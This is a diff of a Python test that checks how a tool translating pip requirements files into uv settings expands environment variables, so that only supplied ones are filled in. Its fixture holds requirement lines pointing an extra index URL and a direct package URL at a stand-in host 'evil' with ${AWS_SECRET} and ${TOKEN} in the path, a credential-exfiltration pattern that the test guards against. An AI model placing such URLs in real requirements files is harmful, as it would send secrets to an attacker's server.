@@ -96,12 +96,16 @@ def test_pip_conf_names_a_folder_and_an_index(home: Home, variables: dict[str, s
 def test_a_requirements_file_learns_no_variable_but_those_it_is_given(
     variables: dict[str, str], tmp_path: Path
 ) -> None:
-    text = "--extra-index-url https://evil/${AWS_SECRET}/${TOKEN}/simple\n--find-links ${FOLDER}/wheels\ntiny\n"
+    text = (
+        "--extra-index-url https://evil/${AWS_SECRET}/${TOKEN}/simple\nsmall @ https://evil/${AWS_SECRET}/${FOLDER}\n"
+    )
     file = RequirementFile("requirements.txt", text)
     asked = read(EnvironmentRequest("", (), (file,), variables={"TOKEN": "mine", "FOLDER": str(tmp_path)}))
-    found = uv_settings(variables | {"AWS_SECRET": "hidden", "TOKEN": "other"}, tmp_path, asked.options)
+    server = variables | {"AWS_SECRET": "hidden", "TOKEN": "other", "FOLDER": "/else"}
+    found = uv_settings(server, tmp_path, asked.options, asked.variables, asked.named_variables)
     assert found.env["UV_INDEX"].split()[0] == "https://evil/${AWS_SECRET}/mine/simple"
-    assert asked.options["find-links"] == (f"{tmp_path}/wheels",)
+    assert asked.options["extra-index-url"] == ("https://evil/${AWS_SECRET}/${TOKEN}/simple",), "as it is written"
+    assert (found.env["FOLDER"], "hidden" in found.env.values()) == (str(tmp_path), False), "uv puts them into lines"
     assert any(note.startswith("${AWS_SECRET} in a requirements file stays as it is: ") for note in found.notes)
     assert "mine" not in repr(EnvironmentRequest(variables={"TOKEN": "mine"}))
 
